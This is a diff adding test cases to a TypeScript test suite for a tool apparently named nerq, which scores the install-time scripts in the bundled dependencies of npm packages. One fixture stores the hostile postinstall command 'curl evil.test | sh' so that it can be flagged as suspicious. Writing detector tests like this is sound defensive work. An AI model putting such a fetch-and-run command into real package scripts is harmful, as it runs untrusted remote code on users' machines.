@@ -134,7 +134,55 @@ checkTable(check, [
     score: 100,
     messageId: 'none',
   },
+  // A bundled dependency's install scripts are this package's install-time code (npm rebuilds its bundle).
+  {
+    name: 'a bundled dependency with a postinstall that fetches code',
+    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', { postinstall: 'curl evil.test | sh' })] } }),
+    score: 10,
+    messageId: 'suspicious',
+    data: { scripts: ['postinstall'], commands: ['postinstall (bundled lodash@4.17.21): curl evil.test | sh'], bundled: ['lodash@4.17.21'], flags: ['curl', 'pipe-to-shell'] },
+  },
+  {
+    name: 'a bundled dependency undeclared in bundleDependencies runs too, as far as nerq can tell',
+    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', { install: 'node x.js' }, { declared: false })] } }),
+    score: 30,
+    messageId: 'scripts',
+    data: { commands: ['install (bundled lodash@4.17.21): node x.js'] },
+  },
+  {
+    name: 'a bundled binding.gyp without an install script: npm runs node-gyp rebuild in it',
+    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', {}, { bindingGyp: true })] } }),
+    score: 60,
+    messageId: 'native-build',
+    data: { commands: ['install (bundled lodash@4.17.21): node-gyp rebuild'] },
+  },
+  {
+    name: 'a bundled package.json nerq could not read is unknown install-time code',
+    evidence: evidence({ tarball: { bundled: [{ path: 'node_modules/big', manifest: null, problem: 'package.json is larger than 128 KiB', bindingGyp: false, declared: true }] } }),
+    score: 30,
+    messageId: 'scripts',
+    data: { commands: ['install (bundled node_modules/big): (not shown: a bundled package.json nerq did not read)'] },
+  },
+  {
+    name: 'bundled package.json files past the cap are unknown install-time code',
+    evidence: evidence({ tarball: { bundledUnread: 3 } }),
+    score: 30,
+    messageId: 'scripts',
+    data: { bundled: ['3 more bundled packages'] },
+  },
+  {
+    name: 'a bundled dependency without install scripts adds nothing',
+    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', {})] } }),
+    score: 100,
+    messageId: 'none',
+    data: { scripts: [] },
+  },
 ]);
+
+function bundledFolder(path: string, installScripts: Record<string, string>, extra: { declared?: boolean; bindingGyp?: boolean } = {}) {
+  const manifest = { name: 'lodash', version: '4.17.21', installScripts };
+  return { path, manifest, problem: null, bindingGyp: extra.bindingGyp ?? false, declared: extra.declared ?? true };
+}
 
 describe('install-scripts evidence', () => {
   it('truncates each command to 200 characters', () => {
